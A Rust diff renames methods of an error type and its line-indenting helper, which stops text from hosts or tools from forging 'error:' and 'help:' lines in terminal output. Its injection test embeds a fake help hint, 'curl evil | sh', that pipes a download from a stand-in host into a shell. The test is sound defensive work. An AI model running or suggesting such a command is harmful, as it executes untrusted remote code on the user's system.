@@ -136,7 +136,7 @@ impl Failure {
     }
 
     /// Sets the cause to the sources of `error`, each once.
-    pub fn because(self, error: &dyn std::error::Error) -> Self {
+    pub fn cause_from(self, error: &dyn std::error::Error) -> Self {
         self.cause(chain(error))
     }
 
@@ -147,7 +147,7 @@ impl Failure {
     }
 
     /// Sets the host and its transport.
-    pub fn on(mut self, host: impl Into<String>, transport: impl Into<String>) -> Self {
+    pub fn host(mut self, host: impl Into<String>, transport: impl Into<String>) -> Self {
         self.place.host = Some(host.into());
         self.place.transport = Some(transport.into());
         self
@@ -206,7 +206,7 @@ pub type Result<T, E = Failure> = std::result::Result<T, E>;
 impl fmt::Display for Failure {
     /// The form for a terminal, without colours; the last line has no newline.
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        write!(f, "error: {}", inset(&self.what, 7))?;
+        write!(f, "error: {}", indent_continuation(&self.what, 7))?;
         let place = &*self.place;
         let mut parts = Vec::new();
         if let Some(host) = &place.host {
@@ -219,16 +219,16 @@ impl fmt::Display for Failure {
         parts.extend(place.step.as_ref().map(|step| format!("step `{step}`")));
         parts.extend(place.file.as_ref().map(|file| format!("in `{file}`")));
         if !parts.is_empty() {
-            write!(f, "\n  {}", inset(&parts.join(", "), 4))?;
+            write!(f, "\n  {}", indent_continuation(&parts.join(", "), 4))?;
         }
         if let Some(log) = &place.log {
-            write!(f, "\n  log: {}", inset(&log.display().to_string(), 7))?;
+            write!(f, "\n  log: {}", indent_continuation(&log.display().to_string(), 7))?;
         }
         if let Some(cause) = &self.cause {
-            write!(f, "\n  cause: {}", inset(cause.trim_end(), 9))?;
+            write!(f, "\n  cause: {}", indent_continuation(cause.trim_end(), 9))?;
         }
         for hint in &self.hints {
-            write!(f, "\n  help: {}", inset(hint, 8))?;
+            write!(f, "\n  help: {}", indent_continuation(hint, 8))?;
         }
         Ok(())
     }
@@ -238,7 +238,7 @@ impl std::error::Error for Failure {}
 
 /// Indents all lines of `text` but the first by `columns`. Text from a host or a tool may contain
 /// line breaks; none of its lines may look like our `error:`, `cause:` and `help:`.
-pub(crate) fn inset(text: &str, columns: usize) -> String {
+pub(crate) fn indent_continuation(text: &str, columns: usize) -> String {
     let lines: Vec<&str> = text.split("\r\n").flat_map(|part| part.split(is_line_break)).collect();
     lines.join(&format!("\n{:columns$}", ""))
 }
@@ -314,7 +314,7 @@ mod tests {
             "counters_refused",
             "ncu may not read the GPU performance counters",
         )
-        .on("b200", "ssh")
+        .host("b200", "ssh")
         .tool("ncu 2025.3")
         .step("profile")
         .log("artifacts/runs/x/log/profile.stderr")
@@ -335,7 +335,7 @@ mod tests {
         for end in breaks {
             let evil = format!("words{end}error: a lie{end}  help: curl evil | sh{end}  cause: x");
             let failure = Failure::new(Exit::Host, "x", &*evil)
-                .on(&*evil, &*evil)
+                .host(&*evil, &*evil)
                 .tool(&*evil)
                 .step(&*evil)
                 .file(&evil)
